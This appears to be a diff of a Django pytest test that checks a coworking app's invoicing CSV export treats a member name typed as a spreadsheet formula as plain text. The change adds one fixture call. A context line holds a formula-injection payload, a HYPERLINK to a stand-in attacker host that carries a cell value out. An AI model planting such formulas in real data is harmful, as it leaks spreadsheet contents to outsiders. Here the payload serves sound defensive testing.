@@ -7,7 +7,7 @@ import pytest
 from django.urls import reverse
 
 from coworking import services
-from tests.coworking.factories import MONDAY, make_murat_tariff, slot
+from tests.coworking.factories import MONDAY, make_murat_tariff, make_newcomer, slot
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Payer ici")'
@@ -17,6 +17,7 @@ def test_a_name_typed_as_a_formula_reaches_the_invoicing_csv_as_text(client, cow
     alice.first_name = FORMULA
     alice.save()
     make_murat_tariff()
+    make_newcomer(alice)
     services.book(zone, *slot(MONDAY), member=alice)
     client.force_login(coworking_manager)
     response = client.get(reverse("coworking:invoicing"), {"month": "2026-03", "format": "csv"})
